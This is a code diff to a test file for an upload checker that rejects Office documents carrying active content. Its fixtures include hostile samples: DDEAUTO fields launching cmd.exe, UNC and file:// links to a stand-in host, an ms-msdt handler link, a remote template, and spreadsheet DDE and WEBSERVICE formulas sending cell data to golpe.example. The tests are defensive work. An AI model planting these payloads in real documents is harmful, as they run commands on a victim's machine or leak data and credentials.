@@ -1,3 +1,4 @@
+import { randomBytes } from 'node:crypto';
 import { describe, expect, it, vi } from 'vitest';
 import { detectFileKind, kindFromDeclared, REFUSAL_MESSAGES } from '../../../../shared/domain/uploads/file-type';
 import { docx, EICAR, exe, jpeg, pdf, png, webp, xlsm, xlsx, zip } from '../../../support/files';
@@ -19,7 +20,10 @@ vi.mock('node:zlib', async (original) => {
  * The ZIP with its last entry's data cut `truncateBy` bytes short (the directory says so) and
  * `copies` more directory entries naming other parts that point at that same data.
  */
-function withLastEntry(file: Buffer, damage: { truncateBy: number; copies: number }): Buffer {
+function withLastEntry(
+  file: Buffer,
+  damage: { truncateBy: number; copies: number; name?: (i: number) => string },
+): Buffer {
   const end = file.length - 22;
   const dirSize = file.readUInt32LE(end + 12);
   const dirAt = file.readUInt32LE(end + 16);
@@ -31,7 +35,7 @@ function withLastEntry(file: Buffer, damage: { truncateBy: number; copies: numbe
   const entry = Buffer.from(file.subarray(last, last + 46));
   entry.writeUInt32LE(entry.readUInt32LE(20) - damage.truncateBy, 20);
   const copies = Array.from({ length: damage.copies }, (_, i) => {
-    const name = Buffer.from(`word/_rels/p${i}.xml.rels`);
+    const name = Buffer.from(damage.name?.(i) ?? `word/_rels/p${i}.xml.rels`);
     const copy = Buffer.from(entry);
     copy.writeUInt16LE(name.length, 28);
     return Buffer.concat([copy, name]);
@@ -172,6 +176,185 @@ describe('detectFileKind: the type comes from the bytes', () => {
     expect(check).toEqual(
       verdict ? { ok: false, reason: verdict } : { ok: true, kind: 'docx', mime: expect.any(String) },
     );
+  });
+
+  // Red-team probe F2: fields, embedded documents, links and formulas that act or reach outside
+  // the file when it opens passed the check.
+  const body = (xml: string) =>
+    `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${xml}</w:p></w:body></w:document>`;
+  const instr = (...pieces: string[]) =>
+    `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((p) => `<w:r><w:instrText xml:space="preserve">${p}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
+  const hyperlink = (target: string) =>
+    rels(`<Relationship Id="rId5" Type="${REL}/hyperlink" Target="${target}" TargetMode="External"/>`);
+  // [case, parts of a DOCX, refused]
+  it.each([
+    [
+      'a DDEAUTO field (fldSimple)',
+      { 'word/document.xml': body(`<w:fldSimple w:instr='DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'/>`) },
+      true,
+    ],
+    [
+      'a DDE field split over runs',
+      { 'word/document.xml': body(instr(' DD', 'E c:\\\\windows\\\\cmd.exe "/k calc" ')) },
+      true,
+    ],
+    ['a DDEAUTO field in a header', { 'word/header1.xml': body(instr('DDEAUTO cmd "/c calc"')) }, true],
+    [
+      'an INCLUDEPICTURE field to a UNC share',
+      { 'word/document.xml': body(instr(' INCLUDEPICTURE "\\\\\\\\golpe.example\\\\s\\\\a.png" \\d ')) },
+      true,
+    ],
+    [
+      'an INCLUDETEXT field to a URL',
+      { 'word/document.xml': body(instr('INCLUDETEXT "https://golpe.example/x.docx"')) },
+      true,
+    ],
+    [
+      'a LINK field to a UNC share (fldSimple, entity-escaped)',
+      { 'word/document.xml': body(`<w:fldSimple w:instr="LINK Excel.Sheet.12 &quot;\\\\golpe\\s\\a.xlsx&quot; A1"/>`) },
+      true,
+    ],
+    [
+      'an embedded macro-enabled workbook',
+      { 'word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm': 'PK' },
+      true,
+    ],
+    ['an embedded macro-enabled document, upper case', { 'word/embeddings/Doc.DOCM': 'PK' }, true],
+    ['a hyperlink to a UNC share', { 'word/_rels/document.xml.rels': hyperlink('\\\\golpe.example\\s\\x.docx') }, true],
+    ['a hyperlink to file://', { 'word/_rels/document.xml.rels': hyperlink('file://golpe.example/s/x.docx') }, true],
+    [
+      'a hyperlink to a program handler',
+      { 'word/_rels/document.xml.rels': hyperlink('ms-msdt:/id PCWDiagnostic') },
+      true,
+    ],
+    [
+      'a remote template over file:// (UNC)',
+      {
+        'word/_rels/settings.xml.rels': rels(
+          `<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="file://golpe/s/t.dotm" TargetMode="External"/>`,
+        ),
+      },
+      true,
+    ],
+    [
+      'a PAGE field and a HYPERLINK field to the store (fine)',
+      { 'word/document.xml': body(instr(' PAGE ') + instr(' HYPERLINK "https://loja.example/link" ')) },
+      false,
+    ],
+    ['a hyperlink to mail (fine)', { 'word/_rels/document.xml.rels': hyperlink('mailto:sac@loja.example') }, false],
+    ['a hyperlink to a relative file (fine)', { 'word/_rels/document.xml.rels': hyperlink('anexos/nota.pdf') }, false],
+    [
+      'text that mentions DDE outside a field (fine)',
+      { 'word/document.xml': body('<w:r><w:t>DDEAUTO e LINK \\\\x</w:t></w:r>') },
+      false,
+    ],
+  ] as const)('a DOCX with %s', (_, parts, refused) => {
+    const check = detectFileKind(docx(parts), 'contrato.docx');
+    expect(check).toEqual(
+      refused ? { ok: false, reason: 'active_content' } : { ok: true, kind: 'docx', mime: expect.any(String) },
+    );
+  });
+
+  const sheet = (cells: string) =>
+    `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`;
+  // [case, parts of an XLSX, verdict]
+  it.each([
+    [
+      'a data connection refreshed on open',
+      {
+        'xl/connections.xml':
+          '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://golpe.example/"/></connection></connections>',
+      },
+      'active_content',
+    ],
+    ['a link to another workbook', { 'xl/externalLinks/externalLink1.xml': '<externalLink/>' }, 'active_content'],
+    [
+      'a DDE formula',
+      { 'xl/worksheets/sheet1.xml': sheet(`<c r="A1"><f>cmd|' /C calc'!A0</f></c>`) },
+      'active_content',
+    ],
+    [
+      'a DDE formula after numbers',
+      {
+        'xl/worksheets/sheet1.xml': sheet(
+          `<c r="A1"><f>1+msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!_xlbgnm.A1</f></c>`,
+        ),
+      },
+      'active_content',
+    ],
+    [
+      'WEBSERVICE sending a cell',
+      { 'xl/worksheets/sheet1.xml': sheet('<c r="A1"><f>_xlfn.WEBSERVICE("http://golpe.example/?"&amp;A2)</f></c>') },
+      'active_content',
+    ],
+    [
+      'FILTERXML over WEBSERVICE, lower case',
+      {
+        'xl/worksheets/sheet1.xml': sheet('<x:c r="A1"><x:f>filterxml(webservice("http://golpe/"),"//a")</x:f></x:c>'),
+      },
+      'active_content',
+    ],
+    [
+      'IMAGE from a URL',
+      {
+        'xl/worksheets/sheet2.xml': sheet('<c r="A1"><f>_xlfn.IMAGE("https://golpe.example/p.png?id="&amp;B1)</f></c>'),
+      },
+      'active_content',
+    ],
+    [
+      'WEBSERVICE in a defined name',
+      {
+        'xl/workbook.xml':
+          '<workbook><definedNames><definedName name="x">WEBSERVICE("http://golpe/")</definedName></definedNames></workbook>',
+      },
+      'active_content',
+    ],
+    ['an Excel 4.0 macro sheet', { 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }, 'macro'],
+    ['an embedded macro-enabled workbook', { 'xl/embeddings/x.xlsb': 'PK' }, 'active_content'],
+    [
+      'plain formulas (fine)',
+      {
+        'xl/worksheets/sheet1.xml': sheet(
+          '<c r="A1"><f>SUM(A2:A4)</f></c><c r="B1"><f>IF(A1&gt;0,"a|b",VLOOKUP(A1,C:D,2,FALSE))</f></c>',
+        ),
+      },
+      null,
+    ],
+    // HYPERLINK waits for a click, as an ordinary link does (accepted in a DOCX too); the pipe in its text is not DDE.
+    [
+      'a HYPERLINK formula (fine)',
+      { 'xl/worksheets/sheet1.xml': sheet('<c r="A1"><f>HYPERLINK("https://loja.example/p|1","pedido")</f></c>') },
+      null,
+    ],
+    [
+      'a hyperlink to the store (fine)',
+      { 'xl/worksheets/_rels/sheet1.xml.rels': hyperlink('https://loja.example/pedido/1') },
+      null,
+    ],
+  ] as const)('an XLSX with %s', (_, parts, verdict) => {
+    const check = detectFileKind(xlsx(parts), 'pedidos.xlsx');
+    expect(check).toEqual(
+      verdict ? { ok: false, reason: verdict } : { ok: true, kind: 'xlsx', mime: expect.any(String) },
+    );
+  });
+
+  it('reads fields and formulas in linear time, and each part once', () => {
+    const unclosed = body('<w:instrText '.repeat(80_000));
+    const longName = sheet(`<c><f>${'a'.repeat(1_000_000)}</f></c>`);
+    const started = performance.now();
+    expect(detectFileKind(docx({ 'word/document.xml': unclosed }), 'c.docx')).toMatchObject({ ok: true });
+    expect(detectFileKind(xlsx({ 'xl/worksheets/sheet1.xml': longName }), 'p.xlsx')).toMatchObject({ ok: true });
+    expect(performance.now() - started).toBeLessThan(1000);
+    // A thousand directory entries pointing at one body: no more compressed bytes read than the file holds.
+    const file = withLastEntry(docx({ 'word/document.xml': body(randomBytes(300_000).toString('hex')) }), {
+      truncateBy: 0,
+      copies: 1000,
+      name: (n) => `word/d${n}.xml`,
+    });
+    zlib.inflateCalls = 0;
+    expect(detectFileKind(file, 'c.docx')).toEqual({ ok: false, reason: 'unknown' });
+    // [Content_Types].xml, then the body once (a second reading would pass what the file holds).
+    expect(zlib.inflateCalls).toBeLessThanOrEqual(3);
   });
 
   it('the refusal says what the person sent, whatever its kind', () => {
